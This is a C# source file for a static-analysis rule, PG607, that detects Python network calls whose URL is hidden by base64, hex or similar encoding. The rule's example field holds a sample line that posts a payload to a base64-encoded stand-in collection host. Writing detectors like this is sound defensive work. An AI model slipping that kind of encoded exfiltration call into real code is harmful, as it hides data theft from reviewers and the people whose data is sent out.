using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Exfil;

/// <summary>PG607: a network destination that appears nowhere in the source, because it is decoded or assembled at run time.</summary>
public sealed class HiddenUrl : Analyzer
{
    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG607", "URL hidden by encoding", "{0} contacts {1}, a destination that is not written anywhere in the source",
        RuleCategory.Exfil, Severity.Error, Confidence.Medium, 7.5, [506],
        whatItDoes: "Reports network calls whose URL or host the analysis computes — by folding base64, hex, rot13, `chr` codes, reversal, joins and the file's own helper functions — when that host is not written in any string literal of the file. A URL put together from a written base and a path is not reported.",
        why: "Honest code names the services it talks to. Encoding the destination exists to defeat review and text-based scanners, and it is how malicious packages hide their collection servers.",
        example: "import base64, requests\nrequests.post(base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0').decode(), data=payload)",
        instead: "Write the URL as a plain string constant so that reviewers and tools can see it.",
        safeExample: "import requests\nBASE = 'https://api.example.com'\nrequests.get(BASE + '/v1/items', timeout=10)");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterNodeAction(Analyze, NodeKind.ExprCall);

    private static void Analyze(NodeContext context)
    {
        var model = context.Model;
        if (NetworkCalls.Find(model, (ExprCall)context.Node) is not { Endpoint: { } argument } network)
        {
            return;
        }

        var address = argument is ExprTuple { Elts.Length: >= 1 } tuple ? tuple.Elts[0] : argument;
        foreach (var text in model.ValueOf(address).Strings)
        {
            if (Endpoints.Parse(text) is { } endpoint && !model.AppearsInLiteral(endpoint.Host))
            {
                context.ReportHere(Descriptor, network.Function, CallSites.Describe(text));
                return;
            }
        }
    }
}
